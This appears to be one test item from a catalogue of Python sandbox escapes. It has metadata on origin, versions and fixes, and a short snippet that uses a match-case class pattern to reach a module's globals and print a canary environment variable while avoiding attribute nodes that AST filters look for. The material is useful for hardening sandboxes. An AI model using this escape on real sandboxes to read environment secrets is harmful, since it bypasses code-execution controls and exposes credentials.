# id: class-pattern-attribute-read
# family: syntax-and-filters
# kind: escape
# invariant: D, E
# origin: Prison Reform, a contest jail of 2023; n8n's task analyzer refuses the pattern
# technique: a class pattern with keywords reads attributes by name, yet the syntax tree holds no attribute node
# needs: 3.10+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import random

match random.choice:
    case object(__func__=object(__globals__={"_os": object(environ={"PADCELL_CANARY": token})})):
        print(token)
    case _:
        raise PermissionError("the pattern does not match")
